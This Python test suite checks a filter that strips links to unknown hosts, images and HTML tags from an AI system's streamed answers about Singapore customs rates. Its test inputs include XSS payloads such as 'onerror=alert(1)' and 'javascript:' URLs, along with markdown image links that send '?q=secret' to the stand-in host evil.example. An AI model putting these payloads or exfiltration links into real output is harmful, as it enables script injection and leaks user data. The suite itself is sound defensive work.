"""What readers of markdown make of an answer that was filtered: no link leads to a host that is no source's."""

import re
from collections.abc import Callable

import cmarkgfm
import marko
import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chains.safety.output_check import REMOVED, KnownLinks, MarkupFilter
from chains.state import Passage

SOURCE = "https://www.customs.gov.sg/imports/rates?lang=en"
PASSAGES = [
    Passage(
        content="See https://www.customs.gov.sg/imports/rates#gst, or http://evil.example/a.",
        metadata={"source_urls": f'["{SOURCE}"]'},
        score=0.5,
    )
]


def filtered(*pieces: str) -> str:
    markup = MarkupFilter(KnownLinks(PASSAGES).allow)
    return "".join([*(markup.feed(piece) for piece in pieces), markup.flush()])


def cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


@pytest.mark.parametrize(
    "text",
    [
        "Nine percent [GST Guide > Rate]. Below 5 < 6 > 4, a <- b, 3<4.",
        f"See [the page]({SOURCE}) and {SOURCE}.",
        "See <https://customs.gov.sg/imports>, (https://www.customs.gov.sg/imports/rates#gst).",
        "The card <CREDIT_CARD> and <EMAIL> were taken out.",
        "[GST Guide > Rate](Section 3) and [1](page 2)",
        "The <Party> element of the `<Declaration>`.",
        "Ratio 3:4, at 10:30, note: see data: below.",
        "税率是9%。[指南 > 税率] 请看。",
    ],
)
def test_what_leads_to_the_sources_or_nowhere_stays(text: str):
    assert filtered(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Pay [here](http://evil.example/a) now", "Pay [here] now"),
        ("Pay [here]( <http://evil.example/a b> 'title' ) now", "Pay [here] now"),
        ("![x](https://evil.example/p.png?q=secret) end", "[x] end"),
        (f"![x]({SOURCE})", f"[x]({SOURCE})"),
        ("Go to http://evil.example/a, please", f"Go to {REMOVED}, please"),
        ("Go to www.evil.example", f"Go to {REMOVED}"),
        ("Go to <https://evil.example/?q=1>.", f"Go to {REMOVED}."),
        ("[1](javascript:alert(1)) x", "[1] x"),
        ("[1](&#104;ttp://evil.example) x", "[1] x"),
        ("[1](//evil.example/x) x", "[1] x"),
        ("[a]: https://evil.example 'x'", f"[a] : {REMOVED} 'x'"),
        ("https://customs.gov.sg@evil.example/", REMOVED),
        ("https://customs.gov.sg.evil.example/", REMOVED),
        ("https://customs.gov.sg/?leak=secret", REMOVED),
        ("https://customs.gov.sg/leak/secret", REMOVED),
        ("https://customs.gov.sg:8443/imports", REMOVED),
        ("ftp://customs.gov.sg/imports", REMOVED),
        ("ht\u200btp://evil.example/a", REMOVED),
        ("<img src=x onerror=alert(1)> after", " after"),
        ("a<script>b</script>c", "abc"),
        ("a <!-- hidden --> b", "a  b"),
        ("<x-y onclick='a'>b", "b"),
        ("<tool_call>{}</tool_call>", "{}"),
        ("<iframe src='http://evil.example", f"< iframe src='{REMOVED}"),
    ],
)
def test_foreign_links_images_and_tags_are_taken_out(text: str, shown: str):
    assert filtered(text) == shown
    assert filtered(*text) == shown


# What a reader's markdown makes of an answer is what counts, not what a pattern makes of it.
MARKDOWN = MarkdownIt("commonmark", {"html": True})
LEADS_AWAY = re.compile(r"<(?:img|script|svg|b)\b|(?:href|src)=\"(?!https://(?:www\.)?customs\.gov\.sg/)[^\"]*(?://|:)")


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize(
    "text",
    [
        "<scr<b>ipt>alert(1)</scr</b>ipt>",
        "<</b>script>alert(1)",
        f"!<b></b>[x]({SOURCE})",
        "[x]<b></b>(//evil.example/?q=secret)",
        "[x]<b></b>(&sol;&sol;evil.example)",
        "[x][1]\n\n[1]: //evil.example/?q=secret",
        "[x]\n\n[x]: <//evil.example>",
        "[x][y]\n\n[y]:\n//evil.example",
        "[x][y]\n\n[y]: &sol;&sol;evil.example",
        '[x](//evil.example "a(b)")',
        "[x](//evil.example\n'a\nb')",
        "[x](//evil.example/((a)))",
        "[x](&sol;&sol;evil.example)",
        "[x](https&colon;//evil.example)",
        "](<svg onload=alert(1)>)",
        "](see <img src=x onerror=alert(1)>)",
        "<x/onclick=alert(1)>",
    ],
)
def test_no_reader_makes_a_foreign_link_or_a_tag_of_what_is_shown(text: str, size: int):
    shown = filtered(*cut(text, size))

    assert not LEADS_AWAY.search(MARKDOWN.render(shown))
    assert "onclick" not in shown


def test_an_address_longer_than_any_real_one_does_not_hold_the_answer_back():
    markup = MarkupFilter(KnownLinks(PASSAGES).allow)
    shown = [markup.feed(piece) for piece in ("[x](http://evil.example/", *["a" * 100] * 50, ") b ")]

    assert "".join(shown).endswith(") b ")
    assert "evil" not in "".join(shown)


def test_nothing_is_held_back_but_the_last_word():
    markup = MarkupFilter(KnownLinks([]).allow)

    assert [markup.feed(word) for word in ("The rate ", "is nine ", "per", "cent [GST Guide > R", "ate].")] == [
        *("The rate ", "is nine ", "", "percent [GST Guide > ", "")
    ]
    assert markup.flush() == "Rate]."


PIECES = st.lists(
    st.sampled_from(
        ["[a](", "http://evil.example/x", ")", "<img ", ">", "!", "[x]", " ", "w", "<!--", "-->", "https:", "//"]
    ),
    max_size=14,
)


@given(PIECES)
def test_pieces_show_what_the_whole_shows_and_no_address_of_a_stranger(pieces: list[str]):
    shown = filtered(*pieces)

    assert "//evil.example" not in shown
    assert "<img\u00a0" not in shown


@pytest.mark.untraced
def test_a_long_run_of_hostile_openings_is_read_in_time():
    for unit in ("<!--", "](", "<a ", "[a](b ", "<a =", "![", "http://"):
        filtered(*[unit * 250] * 80)


PAGE = "https://www.customs.gov.sg/imports/rates"
RENDERERS: dict[str, Callable[[str], str]] = {
    "cmark-gfm": cmarkgfm.github_flavored_markdown_to_html,
    "markdown-it": MarkdownIt("gfm-like", {"html": True}).render,
    "marko": marko.Markdown(extensions=["gfm"]).convert,
    "mistune": lambda text: str(mistune.create_markdown(plugins=["url", "table", "strikethrough", "footnotes"])(text)),
}
LINK = re.compile(r"(?:href|src)=\"([^\"]*)")
BEFORE = (
    *("访问", "_", "é", "я", "ไทย", "x", "0", "*", "**", "(", "(_", "~~", "\\", "/", ".", ",", "-", "+", "=", "&", "%"),
    *(
        *("#", "@", "!", "{", "}", ";", ":", "“", "«", "。", "、", "：", "\u3000", "\u00a0", "\u00ad", "\u200d"),
        *("\u0660", "ß"),
    ),
    *("😀", "|", '"', "'", "\uff41", "\u0301", "\ufffd", "https:", "://", "http", "w", "ww", "www", "a.", "x:"),
)
ADDRESSES = (
    *("https://evil.example/pay?q=SECRET", "HTTP://EVIL.example/?q=SECRET", "www.evil.example/?q=SECRET"),
    *("ftp://evil.example/SECRET", "wss://evil.example/SECRET", "//evil.example/SECRET", "tel:+123SECRET"),
    *("javascript:alert(SECRET)", "https://[::1]/SECRET", "https://。evil.example/SECRET", "www.。evil.example/SECRET"),
    *("https://、SECRET.evil.example", "https://evil。example/SECRET", "https://évil.example/SECRET"),
)


def links(shown: str, renderer: str) -> list[str]:
    return LINK.findall(RENDERERS[renderer](shown))


TEXTS = [f"Go {sign}{address}{end}" for sign in BEFORE for address in ADDRESSES for end in ("", "。然后", " then")]


@pytest.fixture(scope="module")
def shown() -> dict[str, str]:
    return {text: filtered(text) for text in TEXTS}


@pytest.mark.untraced
@pytest.mark.parametrize("renderer", RENDERERS)
def test_no_renderer_links_a_bare_address_whatever_stands_before_it(renderer: str, shown: dict[str, str]):
    assert {text: found for text in TEXTS if (found := links(shown[text], renderer))} == {}


@pytest.mark.untraced
@pytest.mark.parametrize("size", [1, 7])
def test_a_stream_shows_of_a_bare_address_what_the_whole_answer_shows(size: int, shown: dict[str, str]):
    assert {text: filtered(*cut(text, size)) for text in TEXTS} == shown


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize(
    "behind", ["。SECRET", "，?q=SECRET", '"SECRET', "`SECRET", "|SECRET", "]SECRET", "\uff09SECRET"]
)
def test_words_behind_a_known_address_do_not_become_a_part_of_it(renderer: str, behind: str):
    shown = filtered(f"访问{PAGE}{behind}")

    assert "SECRET" in shown
    assert PAGE in shown
    assert not [url for url in links(shown, renderer) if "SECRET" in url]


@pytest.mark.parametrize("text", [f"访问 {PAGE}。", f'See "{PAGE}".', f"See [{PAGE}]({PAGE}).", f"({PAGE})"])
def test_a_known_address_stays_as_it_is_written(text: str):
    assert filtered(text) == text
